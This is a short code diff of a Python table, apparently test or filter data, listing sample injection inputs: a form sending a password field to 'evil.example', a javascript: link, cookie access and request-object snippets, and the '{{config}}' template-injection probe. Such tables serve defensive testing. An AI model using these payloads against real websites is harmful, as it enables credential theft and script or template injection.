@@ -189,8 +189,8 @@ STRICT = {
         "a form": "<form action='//evil.example'><input name=password></form>",
         "an object": "<object data=x.pdf></object>",
         "any link that runs": "javascript:toggleMenu()",
-        "any cookie": "document.cookie",
-        "any call": 'prompt("who")',
+        "any element": "list.innerHTML = name",
+        "any function": "new XMLHttpRequest()",
     },
     "ssti": {
         "an object": "{{config}}",
